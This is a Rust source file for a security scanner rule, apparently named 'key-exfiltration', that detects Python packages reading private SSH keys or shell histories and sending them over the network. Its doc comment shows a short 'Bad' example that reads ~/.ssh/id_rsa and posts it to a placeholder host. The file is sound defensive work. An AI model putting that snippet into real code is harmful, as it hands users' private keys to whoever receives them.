//! ## What it detects
//!
//! A private key, the history of a shell, or the passwords of a system, read and sent over the network, also by code that somebody has called.
//!
//! ## Why it is bad
//!
//! There are services that are told a token, and none that is told a private key: whoever has it is its owner.
//!
//! ## Innocent lookalikes
//!
//! Tools that register a machine send the public key, `id_rsa.pub`. Clients of SSH sign with the private one, and send the signature.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import os, requests
//! def check(name):
//!     key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
//!     requests.post('http://x.example.invalid', data={'n': name, 'k': key})
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import os, requests
//! def register(name):
//!     key = open(os.path.expanduser('~/.ssh/id_rsa.pub')).read()
//!     requests.post('http://x.example.invalid', data={'n': name, 'k': key})
//! ```

use fondaco_python::{Call, Taint, signs_in};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use super::environment_exfiltration::has_host;
use super::secret_exfiltration::{goes_to_issuer, of, takes_path};
use crate::sending::sent;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("key-exfiltration"),
    title: "sends private keys or histories",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 2.2,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls() {
        // A key that the user has set in a variable is a client's to use, where he says as well whom it is for.
        let asked = !call.trigger.is_some_and(Trigger::is_unasked);
        let is_clients = asked && !call.texts().iter().any(|text| has_host(text)) && !hides_address(call);
        let is_set_up = |taint: Taint| is_clients && taint.has(Taint::SET_UP);
        let is_key = |taint: Taint| {
            taint.has(Taint::PRIVATE) && !is_set_up(taint) && (taint.has(Taint::FILE) || takes_path(&call.callee))
        };
        let carries = sent(call).any(|(name, value)| !signs_in(name) && is_key(of(value)));
        // Where the public half is spoken of, that may be what is sent.
        if carries && !goes_to_issuer(call) && !call.callee.contains(".recv") && !unit.text.contains(".pub") {
            hits.call(unit, call, format!("{} of a private key or a history", call.callee));
        }
    }
}

/// Whether a call is made to an address that was hidden or fetched.
fn hides_address(call: &Call) -> bool {
    let named = call.kwargs.iter().find(|(name, _)| name == "url").map(|(_, value)| value);
    let hidden = Taint::DECODED | Taint::DECRYPTED | Taint::NETWORK;
    named.or(call.args.first()).is_none_or(|address| address.taint.has(hidden))
}
